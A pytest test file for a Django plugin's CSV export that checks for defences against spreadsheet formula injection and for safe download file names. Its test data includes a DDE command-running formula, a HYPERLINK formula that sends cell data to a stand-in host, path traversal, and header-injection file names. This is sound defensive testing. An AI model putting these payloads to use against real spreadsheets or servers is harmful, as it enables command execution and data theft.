"""CSV is read back as it was, and no text in it is a formula, whatever a spreadsheet parts cells with."""

import csv
import io
import re
import unicodedata
from datetime import UTC, date, datetime
from decimal import Decimal
from email.message import Message

import pytest
from asgiref.sync import async_to_sync
from django.test import AsyncRequestFactory, RequestFactory
from django.utils.functional import lazystr
from hypothesis import given
from hypothesis import strategies as st

from support_plugin.charts.csv import csv_response, write_row

TRICKS = [
    *("=1+1", "+98 21", "-5", "@SUM(A1)", "−5", "\t=1", "\ttext", "\rtext", "\ntext", "\r\n=1"),
    *(" =1", "\u00a0=1", "\u3000＝1", "＝1", "＋1", "－1", "＠A", "﹦1", "﹢1", "﹣1", "﹫A"),
    *("\u200f=1", "\u200e\u2066=1\u2069", "\ufeff=1", "\u200b=1", "\u00ad=1", "\x00=1", "\x1f=1", "\u0301=1"),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test?"&A1)'),
]
INNER = [
    *("a;=1", "a\t=1", "a\n=1", "a\r\n@x", "a|=1", 'a;"=1', 'a;""=1;b', "a; \u200f＝1", "a\n\n=1"),
    *("a;", 'a;"', "a\n", '"\n', ";", ";\t", "a;\tb", "a\n\tb", "\n\ta", "|\t\t"),
]
HARMLESS = [
    "",
    "text",
    "a=b",
    "1-2",
    "سبد خرید",
    "a, =b",
    "'=1",
    "O'Brien",
    "a;b",
    "two\nlines",
    'say "hi"',
    "5",
]
# A spreadsheet leaves these out before it looks for a formula: spaces, controls and marks.
LEFT_OUT = "ZCM"
pieces = st.sampled_from([*"=+-@;|,\t\r\n\"' a1", "＝", "\u200f", "\ufeff", "−"])
texts = st.text() | st.lists(pieces, max_size=12).map("".join)


def begins_formula(cell):
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    shown = [letter for letter in cell if unicodedata.category(letter)[0] not in LEFT_OUT]
    return bool(shown) and unicodedata.normalize("NFKC", shown[0])[0] in "=+-@−"


def cells(text, delimiter):
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("text", [*TRICKS, *INNER], ids=ascii)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "bar"])
def test_a_trick_is_no_formula(text, delimiter):
    for row in ([text], [1, text], ["a", text, text]):
        assert not any(map(begins_formula, cells(write_row(row) * 2, delimiter)))


@given(
    st.lists(st.lists(texts | st.integers(0, 9), min_size=1, max_size=4), min_size=1, max_size=3),
    st.sampled_from(",;\t|"),
)
def test_no_text_is_a_formula_however_cells_are_parted(rows, delimiter):
    assert not any(map(begins_formula, cells("".join(map(write_row, rows)), delimiter)))


@pytest.mark.parametrize("text", TRICKS, ids=ascii)
def test_a_trick_gets_an_apostrophe_and_loses_nothing(text):
    (found,) = cells(write_row([text]), ",")
    assert found.startswith("'")
    assert found.replace("'", "") == text.replace("\x00", "").replace("'", "")


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_a_harmless_text_is_read_back_as_it_was(text):
    assert cells(write_row([text, "x"]), ",") == [text, "x"]


@given(st.lists(texts.map(lambda text: "x" + re.sub("[;|\t\r\n\0\ud800-\udfff]", "", text)), min_size=1))
def test_texts_that_begin_with_a_letter_and_have_no_separator_are_read_back(row):
    assert list(csv.reader(io.StringIO(write_row(row), newline=""))) == [row]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (-5, "-5"),
        (10**18, "1000000000000000000"),
        (Decimal("-12.50"), "-12.50"),
        (Decimal("1E+3"), "1000"),
        (1e-7, "0.0000001"),
        (Decimal("NaN"), ""),
        (float("-inf"), ""),
        (None, ""),
        (True, "true"),
        (False, "false"),
        (date(2026, 11, 5), "2026-11-05"),
        (datetime(2026, 11, 5, 1, 2, 3, tzinfo=UTC), "2026-11-05T01:02:03+00:00"),
        ("", '""'),
        (lazystr("=1"), '"\'=1"'),
        ("two\r\nlines", '"two\r\nlines"'),
    ],
    ids=repr,
)
def test_numbers_and_days_are_for_machines(cell, written):
    assert write_row([cell, 1]) == f"{written},1\r\n"


def read(response):
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.fixture
def today(monkeypatch):
    monkeypatch.setattr("support_plugin.clock.shop_day", lambda: date(2026, 11, 28))


def test_a_file_begins_with_its_mark_and_header_and_has_all_rows(today):
    rows = [[number, "سبد"] for number in range(1001)]
    response = csv_response(RequestFactory().get("/"), "carts", ["number", "=name"], iter(rows))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="carts 2026-11-28.csv"'
    found = read(response)
    assert found[0] == ["number", "'=name"]
    assert found[1:] == [[str(number), name] for number, name in rows]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("سبدها", "سبدها 2026-11-28.csv"),
        ("a\r\nX: y", "a  X  y 2026-11-28.csv"),
        ("../../etc/passwd", "etc passwd 2026-11-28.csv"),
        ('a"; filename="b.exe', "a ; filename= b.exe 2026-11-28.csv"),
        ("a\u202efdp", "afdp 2026-11-28.csv"),
        ("\ud800", "2026-11-28.csv"),
        ("", "2026-11-28.csv"),
    ],
    ids=ascii,
)
def test_a_files_name_has_the_day_and_is_a_name_in_any_script(today, name, expected):
    parsed = Message()
    parsed["Content-Disposition"] = csv_response(RequestFactory().get("/"), name, [], [])[
        "Content-Disposition"
    ]
    assert parsed.get_content_disposition() == "attachment"
    assert parsed.get_filename() == expected


def counted(count, asked):
    for number in range(count):
        asked.append(number)
        yield [number]


def test_rows_are_asked_for_as_the_file_is_read(today):
    asked = []
    parts = iter(csv_response(RequestFactory().get("/"), "a", ["n"], counted(10_000, asked)))
    next(parts)
    assert asked == []
    next(parts)
    assert 0 < len(asked) < 1000


def test_rows_are_asked_for_as_the_file_is_read_under_asgi_too(today, recwarn):
    asked = []
    response = csv_response(AsyncRequestFactory().get("/"), "a", ["n"], counted(10_000, asked))
    assert response.is_async

    async def look():
        parts = aiter(response)
        await anext(parts)
        await anext(parts)
        first = len(asked)
        async for _part in parts:
            pass
        return first

    assert 0 < async_to_sync(look)() < 1000
    assert len(asked) == 10_000
    assert not recwarn.list
